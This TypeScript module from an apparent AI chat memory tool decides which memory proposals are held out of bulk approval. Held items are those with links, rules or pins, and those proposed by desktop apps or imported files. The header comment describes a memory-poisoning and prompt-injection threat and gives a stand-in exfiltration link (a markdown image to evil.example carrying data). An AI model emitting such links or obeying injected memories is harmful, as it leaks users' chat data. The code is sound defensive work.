// What Review never approves in bulk (#34 item 3). "Approve all" is for the person's own extractions waiting in
// review mode; a proposal that would steer every later chat, or that came from something that is not the person,
// is approved only on its own card, where the card says why it is held and where it came from: a memory that
// carries a link (lib/recall/links.ts: `![](https://evil.example/p?d=…)` in every later block), a standing rule or a
// pinned memory (always in the block), and whatever a desktop app proposed (`remember`, driven by text it read) or a
// file brought (lib/import/hold.ts). One function, read by the background's approveAll and by Review's cards.
import type { Memory, MemoryEvent } from '../model/records';
import { hasLink } from '../recall/links';

/** Why a proposal is held (Review words each as review.held.why.<reason>, #37). */
export type HeldReason = 'link' | 'rule' | 'pinned' | 'proposed';

/** Where it came from, when that is itself a reason: a desktop app (by the name it gave itself) or a file. */
export type HeldFrom = { kind: 'agent'; name: string } | { kind: 'import' };

export interface Held {
  why: HeldReason[];
  from: HeldFrom | null;
}

/** The name a desktop app gave itself, from the proposal's event or its source. */
export function agentOf(memory: Memory, event: MemoryEvent | null): string | null {
  if (event?.actor === 'agent') return event.agent ?? '';
  return memory.sources.find((s) => s.agent !== undefined)?.agent ?? null;
}

function origin(memory: Memory, event: MemoryEvent | null): HeldFrom | null {
  const agent = agentOf(memory, event);
  if (agent !== null) return { kind: 'agent', name: agent };
  if (event?.actor === 'import' || event?.imported) return { kind: 'import' };
  return null;
}

/** Why a pending proposal is left out of Approve all; null for one that may go with the others. */
export function heldFromBulk(memory: Memory, event: MemoryEvent | null): Held | null {
  const deletion = event?.op === 'delete' && event.before !== null && event.before.status !== 'pending';
  const why = [
    !deletion && hasLink(memory.text) ? 'link' : null,
    !deletion && memory.priority === -1 ? 'rule' : null,
    !deletion && memory.pinned ? 'pinned' : null,
  ].filter((w): w is HeldReason => w !== null);
  const from = origin(memory, event);
  if (from) why.push('proposed');
  return why.length > 0 ? { why, from } : null;
}
